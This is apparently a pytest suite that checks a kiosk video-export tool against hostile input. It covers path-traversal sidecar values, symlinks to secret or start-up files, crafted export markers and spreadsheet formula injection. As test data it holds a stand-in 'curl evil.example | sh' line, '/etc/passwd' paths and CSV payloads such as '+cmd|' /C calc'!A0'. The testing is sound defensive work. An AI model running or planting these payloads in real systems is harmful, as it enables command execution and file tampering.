"""A recordings folder from another machine, or a DEST prepared in advance, is input: issue 10's findings, one by one."""

import csv
import io
import json
import os
import shutil
import subprocess
import sys
import uuid
import zipfile
from dataclasses import fields
from pathlib import Path

import pytest

from kiosk.config import load
from kiosk.export import ExportError, ExportOptions, export_record, refresh
from kiosk.export.manifest import CSV_COLUMNS, ExportedClip, manifest_csv
from kiosk.store import ClipStore, recover
from kiosk.store.codes import display
from kiosk.store.exported import EXPORT_MARKER, export_lock, read_marker
from kiosk.store.media import sha256
from kiosk.store.withdraw import WITHDRAWALS_LOG, read_withdrawals, withdraw
from tests.cli_runner import REPO, kiosk
from tests.sidecars import put

CONFIG = load()[0]
SECRET = b"root:$6$not-for-export$:19000:0:99999:7:::\n"


def _export(sources, dest, **options):
    return export_record(list(sources), dest, ExportOptions(config=CONFIG, durable=False, **options))


def _first(folder: Path):
    return ClipStore(folder).list().clips[0]


def _plant(clip, name: str, **changes) -> Path:
    """A sidecar beside `clip`'s, naming `clip`'s media, with `changes` to its values (None removes one)."""
    data = json.loads(clip.sidecar_path.read_text(encoding="utf-8"))
    data.update(id=str(uuid.uuid4()), withdrawal_code="QRTUVW")
    for field, value in changes.items():
        put(data, field, value)
    path = clip.sidecar_path.with_name(f"{name}.json")
    path.write_text(json.dumps(data), encoding="utf-8")
    return path


def _manifest_rows(dest: Path) -> list[dict]:
    return list(csv.DictReader(io.StringIO((dest / "manifest.csv").read_bytes().decode("utf-8-sig"), newline="")))


def _snapshot(folder: Path) -> dict[str, bytes]:
    """Every file's bytes (a link's target) in `folder`, but for the registry of exports and the log the kiosk keeps there."""
    return {str(p.relative_to(folder)): (os.readlink(p).encode() if p.is_symlink() else p.read_bytes())
            for p in sorted(folder.rglob("*")) if (p.is_symlink() or p.is_file()) and p.name != ".exports.json"
            and p.relative_to(folder).parts[0] != "logs"}


# 1. a sidecar's values decide no path outside DEST, and cannot overwrite another folder's clip


@pytest.mark.parametrize("perspective", ["../../../../outside/OUT", "/ABSOLUTE/OUT", "frontline/../../x", "a:b"])
def test_a_card_id_that_is_a_path_makes_only_that_clip_unreadable(kiosks, tmp_path, perspective):
    kiosk_a, kiosk_b = kiosks
    target = _first(kiosk_a)
    before = _snapshot(kiosk_a)
    # B's sidecar aims at A's clip: its id, and a card that would lead from DEST into A's folder.
    hostile = _plant(_first(kiosk_b), "hostile", id=target.sidecar.id, withdrawal_code="",
                     perspective=perspective.replace("/ABSOLUTE", str(tmp_path)))
    result = kiosk("export", tmp_path / "record", "--recordings", kiosk_a, "--recordings", kiosk_b)
    assert result.returncode == 0, result.stderr
    assert "unexpected error" not in result.stderr and "Traceback" not in result.stderr
    assert f"{hostile.name} is not a readable sidecar (perspective" in result.stderr
    assert "4 clips in" in result.stdout  # every good clip of both kiosks
    assert _snapshot(kiosk_a) == before  # A's clip and sidecar (and its withdrawal code) untouched
    assert {p.name for p in tmp_path.iterdir()} == {"kiosk-a", "kiosk-b", "record"}


@pytest.mark.parametrize("field, value, reason", [
    ("id", '../../x"|?', "is not a clip id"), ("id", "ABC:DEF", "is not a clip id"),
    ("media", "../kiosk-a/x.mp4", "is not a file name"), ("media", "/etc/passwd", "is not a file name"),
    ("perspective", "community\n", "is not a card id"), ("perspective", "front:line", "is not a card id"),
])
def test_fat_and_ntfs_unsafe_names_are_each_the_clips_own_reason(kiosks, tmp_path, field, value, reason):
    kiosk_a, _ = kiosks
    hostile = _plant(_first(kiosk_a), "hostile", **{field: value})
    report = _export([kiosk_a], tmp_path / "record")
    assert report.clips == 3
    assert any(hostile.name in line and f"{field} {value!r} {reason}" in line for line in map(str, report.skipped))


# 2. and 3. a thumbnail that is a link is neither copied from nor written through


def test_a_thumbnail_linked_to_a_secret_is_not_exported(kiosks, tmp_path):
    kiosk_a, _ = kiosks
    secret = tmp_path / "shadow"
    secret.write_bytes(SECRET)
    clip = _first(kiosk_a)
    clip.thumbnail_path.unlink()
    clip.thumbnail_path.symlink_to(secret)
    dest = tmp_path / "record"
    report = _export([kiosk_a], dest)
    assert report.clips == 3
    for path in dest.rglob("*"):
        assert not path.is_symlink() and (path.is_dir() or SECRET not in path.read_bytes())
    thumbnails = sorted(dest.glob("clips/*/*.jpg"))
    assert len(thumbnails) == 3 and all(p.read_bytes()[:3] == b"\xff\xd8\xff" for p in thumbnails)  # made afresh


def test_recover_never_writes_through_a_linked_thumbnail(kiosks, tmp_path):
    kiosk_a, _ = kiosks
    outside = tmp_path / "bashrc"
    outside.write_bytes(b"echo hello\n")
    clip = _first(kiosk_a)
    ClipStore(kiosk_a).update(clip, status="recording")  # a take the kiosk stopped in: recover makes its thumbnail
    clip.thumbnail_path.unlink()
    clip.thumbnail_path.symlink_to(outside)
    with ClipStore(kiosk_a).lock():
        reports = recover(ClipStore(kiosk_a))
    assert any("recovered" in report for report in reports)
    assert outside.read_bytes() == b"echo hello\n"
    assert not clip.thumbnail_path.is_symlink() and clip.thumbnail_path.read_bytes()[:3] == b"\xff\xd8\xff"


# 4. withdrawal logs: never appended through a link, every line checked before it is believed or copied


def test_a_linked_withdrawal_log_is_never_appended_to(kiosks, tmp_path):
    kiosk_a, kiosk_b = kiosks
    withdraw(ClipStore(kiosk_a), _first(kiosk_a).code, [])
    startup = tmp_path / "profile"
    startup.write_bytes(b"# a shell start-up file\n")
    (kiosk_b / WITHDRAWALS_LOG).symlink_to(startup)
    result = kiosk("export", tmp_path / "record", "--recordings", kiosk_a, "--recordings", kiosk_b)
    assert result.returncode == 1 and "unexpected error" not in result.stderr
    assert "withdrawal log cannot be read" in result.stderr and len(result.stderr.strip().splitlines()) == 1
    assert startup.read_bytes() == b"# a shell start-up file\n"
    assert not (tmp_path / "record").exists()
    withdrawn = kiosk("withdraw", _first(kiosk_b).code, "--recordings", kiosk_b, "--yes")
    assert withdrawn.returncode == 1 and "withdrawal log" in withdrawn.stderr and "nothing was removed" in withdrawn.stderr
    assert startup.read_bytes() == b"# a shell start-up file\n" and len(ClipStore(kiosk_b).list().clips) == 1


def test_log_lines_of_the_wrong_form_are_neither_believed_nor_copied(kiosks, tmp_path):
    kiosk_a, kiosk_b = kiosks
    clip = _first(kiosk_a)
    lines = [f"2025-06-14T10:00:00+01:00\t{clip.code}\t{clip.sidecar.id}\tinjected",  # four fields
             f"2025-06-14T10:00:00\t{clip.code}\t{clip.sidecar.id}",  # no time zone
             f"2025-06-14T10:00:00+01:00\t{clip.code.lower()}\t{clip.sidecar.id}",
             f"2025-06-14T10:00:00+01:00\t{clip.code}\t../{clip.sidecar.id}",
             "curl evil.example | sh"]
    (kiosk_b / WITHDRAWALS_LOG).write_text("\n".join(lines) + "\n", encoding="utf-8")
    assert read_withdrawals(kiosk_b) == ()
    report = _export([kiosk_a, kiosk_b], tmp_path / "record")
    assert report.clips == 4 and report.withdrawn == 0
    assert not (kiosk_a / WITHDRAWALS_LOG).exists()


# 5. a killed export leaves nothing outside the selection after the next run; one export at a time

KILLED = """
import os, sys
from pathlib import Path
from kiosk.config import load
from kiosk.export import ExportOptions, export_record

sources, dest, scope, after, zipped = sys.argv[1:]


def progress(done, total, message):
    if done >= int(after):
        os._exit(9)  # as kill -9: no finally block runs, the marker is not written


export_record(sources.split(","), Path(dest), ExportOptions(config=load()[0], scope=scope, zip=zipped == "zip"), progress)
"""


def _killed_export(sources, dest, scope: str, after: int, zipped: bool = False) -> None:
    done = subprocess.run([sys.executable, "-c", KILLED, ",".join(map(str, sources)), str(dest), scope, str(after),
                           "zip" if zipped else "folder"], cwd=REPO, capture_output=True, text=True, timeout=120)
    assert done.returncode == 9, done.stderr


def test_a_killed_event_export_leaks_no_event_only_clip_into_the_next_public_export(kiosks, tmp_path):
    kiosk_a, _ = kiosks
    dest = tmp_path / "record"
    _killed_export([kiosk_a], dest, "event", after=2)
    assert len(list(dest.glob("clips/*/*.mp4"))) >= 2  # the kill left copies the marker does not list
    result = kiosk("export", dest, "--recordings", kiosk_a, "--scope", "public")
    assert result.returncode == 0, result.stderr
    public = {clip.sidecar.id for clip in ClipStore(kiosk_a).list().clips if clip.sidecar.consent_scope == "public"}
    assert {row["id"] for row in _manifest_rows(dest)} == public
    on_disk = {json.loads(p.read_text())["id"] for p in dest.glob("clips/*/*.json")}
    assert on_disk == public and len(list(dest.glob("clips/*/*.mp4"))) == len(public)
    assert not [p for p in dest.rglob(".*") if p.name not in (EXPORT_MARKER, ".kiosk.lock")]


def test_a_second_export_into_the_same_dest_is_refused_with_one_sentence(kiosks, tmp_path):
    kiosk_a, _ = kiosks
    dest = tmp_path / "record"
    lock = export_lock(dest)  # as an export under way holds it
    try:
        result = kiosk("export", dest, "--recordings", kiosk_a, "--scope", "public")
    finally:
        lock.release()
    assert result.returncode == 1
    assert result.stderr.strip().splitlines() == [
        f"kiosk: Another export or withdrawal is changing {dest} right now; export again when it is done."]
    assert not (dest / EXPORT_MARKER).exists()


# 6. staging folders of a killed zip export or withdrawal are always cleaned


def test_a_killed_zip_export_leaves_no_hidden_copy_after_the_next_run(kiosks, tmp_path):
    kiosk_a, _ = kiosks
    _killed_export([kiosk_a], tmp_path / "record.zip", "event", after=1, zipped=True)
    assert [p for p in tmp_path.iterdir() if p.name.startswith(".record.zip.")]  # the unpacked copy stayed
    report = _export([kiosk_a], tmp_path / "record", zip=True)
    assert report.clips == 3
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".record.zip.")]


KILLED_WITHDRAWAL = """
import os, sys
from pathlib import Path
from kiosk.store import ClipStore
from kiosk.store.withdraw import withdraw

root, code, archive = sys.argv[1:]
# Killed once the unpacked copy is changed, before it is packed again and removed: as kill -9 there.
withdraw(ClipStore(Path(root)), code, [Path(archive)], refresh=lambda folder: os._exit(9))
"""


def test_a_killed_zip_withdrawal_leaves_no_hidden_copy_after_withdrawing_again(kiosks, tmp_path):
    kiosk_a, _ = kiosks
    archive = _export([kiosk_a], tmp_path / "record", zip=True).dest
    code = _first(kiosk_a).code
    killed = subprocess.run([sys.executable, "-c", KILLED_WITHDRAWAL, str(kiosk_a), code, str(archive)], cwd=REPO,
                            capture_output=True, text=True, timeout=120)
    assert killed.returncode == 9, killed.stderr
    left = [p for p in tmp_path.iterdir() if p.name.startswith(".record.zip.")]
    assert left and list(left[0].rglob("*.mp4"))  # the unpacked copy, holding the other clips, stayed
    report = withdraw(ClipStore(kiosk_a), code, [archive])
    assert not report.problems and report.exports_updated == (archive,)
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".record.zip.")]
    with zipfile.ZipFile(archive) as zipped:
        assert sum(name.endswith(".mp4") for name in zipped.namelist()) == 2


# 7. clips across kiosks: one id with two recordings; a foreign withdrawal needs the id and the code


def test_two_clips_with_one_id_and_different_media_are_both_reported(kiosks, tmp_path):
    kiosk_a, kiosk_b = kiosks
    a, b = _first(kiosk_a), _first(kiosk_b)
    ClipStore(kiosk_b).update(b, id=a.sidecar.id)
    report = _export([kiosk_a, kiosk_b], tmp_path / "record")
    assert report.clips == 2
    clash = [line for line in map(str, report.skipped) if "one clip id but different recordings" in line]
    assert len(clash) == 1 and str(a.sidecar_path) in clash[0] and str(b.sidecar_path) in clash[0]


def test_two_clips_that_would_share_their_files_in_the_record_are_not_mixed(kiosks, tmp_path):
    kiosk_a, kiosk_b = kiosks
    a = _first(kiosk_a)
    day_b = _first(kiosk_b).sidecar_path.parent
    shutil.copy(a.media_path, day_b / a.media_path.name)
    data = json.loads(a.sidecar_path.read_text())
    data.update(id=a.sidecar.id[:8] + str(uuid.uuid4())[8:])  # same time, card and first 8 of the id: same name
    (day_b / a.sidecar_path.name).write_text(json.dumps(data))
    dest = tmp_path / "record"
    report = _export([kiosk_a, kiosk_b], dest)
    assert report.clips == 4 and len(list(dest.glob("clips/*/*.mp4"))) == 4
    assert any("would have the same name in the record" in line for line in map(str, report.damaged))


def test_a_foreign_withdrawal_bars_only_the_clip_with_that_id_and_code(kiosks, tmp_path):
    kiosk_a, kiosk_b = kiosks
    clip = _first(kiosk_a)
    other_code = "QRTUVW" if clip.code != "QRTUVW" else "XYXYXY"
    (kiosk_b / WITHDRAWALS_LOG).write_text(f"2025-06-14T10:00:00+01:00\t{other_code}\t{clip.sidecar.id}\n")
    report = _export([kiosk_a, kiosk_b], tmp_path / "record")
    assert report.clips == 4 and report.withdrawn == 0
    assert read_withdrawals(kiosk_a) == ()  # not copied into A's log either
    (kiosk_b / WITHDRAWALS_LOG).write_text(f"2025-06-14T10:00:00+01:00\t{clip.code}\t{clip.sidecar.id}\n")
    report = _export([kiosk_a, kiosk_b], tmp_path / "record")
    assert report.clips == 3 and report.withdrawn == 1
    assert [(e.code, e.clip_id) for e in read_withdrawals(kiosk_a)] == [(clip.code, clip.sidecar.id)]
    remedy = next(line for line in map(str, report.skipped) if "still holds a copy" in line)
    assert f"kiosk withdraw {display(clip.code)} --recordings {kiosk_a}" in remedy
    assert len(withdraw(ClipStore(kiosk_a), clip.code, []).removed) >= 2  # the remedy it names removes the clip


def test_a_clip_whose_media_has_another_name_and_an_odd_year_is_exported_and_exported_again(kiosks, tmp_path):
    kiosk_a, _ = kiosks
    clip = _first(kiosk_a)
    renamed = clip.media_path.with_name("clip.mp4")
    clip.media_path.rename(renamed)
    ClipStore(kiosk_a).update(clip, media=renamed.name, started_at="0001-01-01T00:00:00+00:00")
    dest = tmp_path / "record"
    assert _export([kiosk_a], dest).clips == 3
    assert list(dest.glob(f"clips/*/00010101T000000_*_{clip.sidecar.id[:8]}.mp4"))
    assert _export([kiosk_a], dest).unchanged == 3  # the marker it wrote reads back


# 8. one bad sidecar never stops the others


def _fifo(path: Path) -> None:
    os.mkfifo(path)


@pytest.mark.parametrize("plant", [
    lambda clip: _plant(clip, "bad-time", started_at="yesterday"),
    lambda clip: _plant(clip, "naive-time", started_at="2025-06-14T10:00:00"),
    lambda clip: clip.sidecar_path.with_name("nan.json").write_text(
        clip.sidecar_path.read_text().replace('"duration": ', '"duration": NaN, "x": ')),
    lambda clip: clip.sidecar_path.with_name("inf.json").write_text(
        clip.sidecar_path.read_text().replace('"duration": ', '"duration": 1e999, "x": ')),
    lambda clip: _plant(clip, "types", width="wide", reviewed="yes"),
    lambda clip: _plant(clip, "huge-number", frames=10 ** 400),
    lambda clip: clip.sidecar_path.with_name("deep.json").write_text("[" * 200_000 + "]" * 200_000),
    lambda clip: _fifo(clip.sidecar_path.with_name("fifo.json")),
    lambda clip: clip.sidecar_path.with_name("zero.json").symlink_to("/dev/zero"),
], ids=["bad-time", "naive-time", "nan", "infinity", "types", "huge-number", "deep", "fifo", "dev-zero"])
def test_one_bad_sidecar_is_reported_and_the_others_go_through(kiosks, tmp_path, plant):
    kiosk_a, _ = kiosks
    plant(_first(kiosk_a))
    exported = kiosk("export", tmp_path / "record", "--recordings", kiosk_a, timeout=60)
    assert exported.returncode == 0, exported.stderr
    assert "3 clips in" in exported.stdout and "unexpected error" not in exported.stderr
    recovered = kiosk("recover", "--recordings", kiosk_a, timeout=60)
    assert recovered.returncode == 0 and "unexpected error" not in recovered.stderr
    code = ClipStore(kiosk_a).list().clips[-1].code
    withdrawn = kiosk("withdraw", code, "--recordings", kiosk_a, "--yes", timeout=60)
    assert withdrawn.returncode == 0, withdrawn.stderr
    assert len(ClipStore(kiosk_a).list().clips) == 2 and len(_manifest_rows(tmp_path / "record")) == 2


def test_withdrawing_during_an_export_leaves_the_clip_out_and_the_record_whole(kiosks, tmp_path):
    kiosk_a, _ = kiosks
    dest = tmp_path / "record"
    _export([kiosk_a], dest, scope="public")  # so the withdrawal knows the record
    first = _first(kiosk_a)
    reports = []

    def progress(done, total, message):
        if not reports:
            reports.append(withdraw(ClipStore(kiosk_a), first.code))

    report = export_record([kiosk_a], dest, ExportOptions(config=CONFIG, durable=False), progress)
    assert "being written right now" in reports[0].problems[0]
    assert report.clips == 2 and first.sidecar.id not in {row["id"] for row in _manifest_rows(dest)}
    assert (dest / "index.html").exists() and first.sidecar.id in read_marker(dest).withdrawn
    assert not any(json.loads(p.read_text())["id"] == first.sidecar.id for p in dest.glob("clips/*/*.json"))


# 9. every CSV cell that a spreadsheet would run is neutralised


def test_every_manifest_cell_a_spreadsheet_would_run_gets_a_leading_quote():
    texts = {f.name: "=HYPERLINK(\"http://evil\")" for f in fields(ExportedClip) if f.type == "str"}
    texts.update(id="@SUM(1)", card="+cmd", language="\tx", started_at="2025-06-14T10:00:00+01:00", video="-1",
                 consent_scope="\rx")
    clip = ExportedClip(**texts, duration=-1.0, recovered=False, reviewed=True, width=-2, height=3)
    row = next(csv.DictReader(io.StringIO(manifest_csv([clip]).decode("utf-8-sig"), newline="")))
    assert set(row) == set(CSV_COLUMNS)
    for column, cell in row.items():
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (column, cell)
    assert row["id"] == "'@SUM(1)" and row["duration_seconds"] == "'-1.0" and row["width"] == "'-2"


def test_formulas_in_a_sidecar_reach_the_manifest_neutralised(kiosks, tmp_path):
    kiosk_a, _ = kiosks
    for clip in ClipStore(kiosk_a).list().clips:
        ClipStore(kiosk_a).update(clip, language="=HYPERLINK(\"x\")", prompt="@SUM(A1)", event="+cmd|' /C calc'!A0")
    _export([kiosk_a], tmp_path / "record")
    for row in _manifest_rows(tmp_path / "record"):
        assert row["language"].startswith("'=") and row["prompt"].startswith("'@") and row["event"].startswith("'+")


# 11. re-export notices a changed copy; a prepared DEST cannot make export delete outside it


def test_re_export_notices_a_copy_changed_on_the_stick_and_verify_finds_one_with_its_time_put_back(kiosks, tmp_path):
    kiosk_a, _ = kiosks
    dest = tmp_path / "record"
    _export([kiosk_a], dest)
    copy = sorted(dest.glob("clips/*/*.mp4"))[0]
    good = sha256(copy)
    content = bytearray(copy.read_bytes())
    content[len(content) // 2] ^= 0xFF
    copy.write_bytes(bytes(content))
    assert _export([kiosk_a], dest).added == 1 and sha256(copy) == good  # its time changed: copied again
    entry = next(e for e in read_marker(dest).clips.values() if e.video.endswith(copy.name))
    copy.write_bytes(bytes(content))
    os.utime(copy, ns=(entry.mtime_ns, entry.mtime_ns))  # a byte flipped, its size and time as they were
    assert _export([kiosk_a], dest).added == 0 and sha256(copy) != good  # size and time cannot see that
    assert _export([kiosk_a], dest, verify=True).added == 1 and sha256(copy) == good


def test_a_prepared_dest_with_a_crafted_marker_and_a_linked_clips_folder_deletes_nothing_outside(kiosks, tmp_path):
    kiosk_a, _ = kiosks
    victim_folder = tmp_path / "elsewhere" / "frontline"
    victim_folder.mkdir(parents=True)
    victim = victim_folder / "20250614T100000_frontline_0123abcd.mp4"
    victim.write_bytes(b"someone else's file")
    dest = tmp_path / "record"
    dest.mkdir()
    (dest / "clips").symlink_to(tmp_path / "elsewhere")
    entry = {"card": "frontline", "sha256": "0" * 64, "video": f"clips/frontline/{victim.name}",
             "sidecar": f"clips/frontline/{victim.stem}.json", "thumbnail": "", "files": []}
    (dest / EXPORT_MARKER).write_text(json.dumps({"clips": {str(uuid.uuid4()): entry}}))
    with pytest.raises(ExportError, match="clips is a link"):
        _export([kiosk_a], dest)
    assert victim.read_bytes() == b"someone else's file"
    (dest / "clips").unlink()
    entry["video"] = "../elsewhere/frontline/" + victim.name
    (dest / EXPORT_MARKER).write_text(json.dumps({"clips": {str(uuid.uuid4()): entry}}))
    with pytest.raises(ExportError, match="export marker the kiosk did not write"):
        _export([kiosk_a], dest)
    assert victim.read_bytes() == b"someone else's file"
    entry["video"] = f"clips/frontline/{victim.name}"
    (dest / EXPORT_MARKER).write_text(json.dumps({"clips": {str(uuid.uuid4()): entry}}))
    (dest / "clips").mkdir()
    (dest / "clips" / "frontline").symlink_to(victim_folder)  # a card's folder that leads out
    with pytest.raises(ExportError, match="clips/frontline is a link"):
        _export([kiosk_a], dest)
    assert victim.read_bytes() == b"someone else's file"


def test_a_record_an_earlier_version_exported_is_brought_up_to_date_and_withdrawn_from(kiosks, tmp_path):
    kiosk_a, _ = kiosks
    dest = tmp_path / "record"
    _export([kiosk_a], dest)
    marker = json.loads((dest / EXPORT_MARKER).read_text())
    for entry in marker["clips"].values():  # as the kiosk wrote it before copies had their size and time noted
        del entry["size"], entry["mtime_ns"]
    (dest / EXPORT_MARKER).write_text(json.dumps(marker))
    report = _export([kiosk_a], dest)
    assert (report.clips, report.added, report.damaged) == (3, 3, ())
    assert _export([kiosk_a], dest).unchanged == 3
    assert len(withdraw(ClipStore(kiosk_a), _first(kiosk_a).code, refresh=refresh).exports_updated) == 1
    assert len(_manifest_rows(dest)) == 2


# issue 17: a config on a stick decides nothing when folders are merged

STICK_CONFIG = """
[event]
name = "Stick Event"

[[consent.scopes]]
id = "public"
label.en = "Widest first, to turn a public export into everything"

[[consent.scopes]]
id = "event"
label.en = "The event record only"
"""


def test_a_merged_folders_config_never_decides_the_scopes_or_the_event(kiosks, tmp_path):
    kiosk_a, stick = kiosks
    (stick / "kiosk.toml").write_text(STICK_CONFIG, encoding="utf-8")
    own = tmp_path / "own"
    own.mkdir()  # this laptop's folder has no kiosk.toml of its own: the shipped settings decide
    dest = tmp_path / "public"
    result = kiosk("--recordings", own, "export", dest, "--recordings", stick, "--recordings", kiosk_a,
                   "--scope", "public")
    assert result.returncode == 0, result.stderr
    assert "a merged folder's own kiosk.toml is never read" in result.stderr.splitlines()[-1]
    scopes = {row["consent_scope"] for row in _manifest_rows(dest)}
    assert scopes == {"public"} and len(_manifest_rows(dest)) == 3  # A's "event record only" clip stays out
    assert json.loads((dest / "manifest.json").read_text(encoding="utf-8"))["event"] != "Stick Event"


def test_a_merge_takes_this_laptops_own_config_or_the_one_named(kiosks, tmp_path):
    kiosk_a, stick = kiosks
    (stick / "kiosk.toml").write_text(STICK_CONFIG, encoding="utf-8")
    (kiosk_a / "kiosk.toml").write_text('[event]\nname = "Our Own Day"\n', encoding="utf-8")
    result = kiosk("--recordings", kiosk_a, "export", tmp_path / "own", "--recordings", stick,
                   "--recordings", kiosk_a)
    assert result.returncode == 0, result.stderr
    assert json.loads((tmp_path / "own" / "manifest.json").read_text(encoding="utf-8"))["event"] == "Our Own Day"
    named = tmp_path / "named.toml"
    named.write_text('[event]\nname = "Named Day"\n', encoding="utf-8")
    result = kiosk("export", tmp_path / "named", "--recordings", stick, "--recordings", kiosk_a, "--config", named)
    assert result.returncode == 0, result.stderr
    assert json.loads((tmp_path / "named" / "manifest.json").read_text(encoding="utf-8"))["event"] == "Named Day"


def test_one_folder_is_this_laptops_own_and_its_config_is_read(kiosks, tmp_path):
    kiosk_a, _ = kiosks
    (kiosk_a / "kiosk.toml").write_text('[event]\nname = "Our Own Day"\n', encoding="utf-8")
    result = kiosk("export", tmp_path / "record", "--recordings", kiosk_a)
    assert result.returncode == 0, result.stderr
    assert json.loads((tmp_path / "record" / "manifest.json").read_text(encoding="utf-8"))["event"] == "Our Own Day"
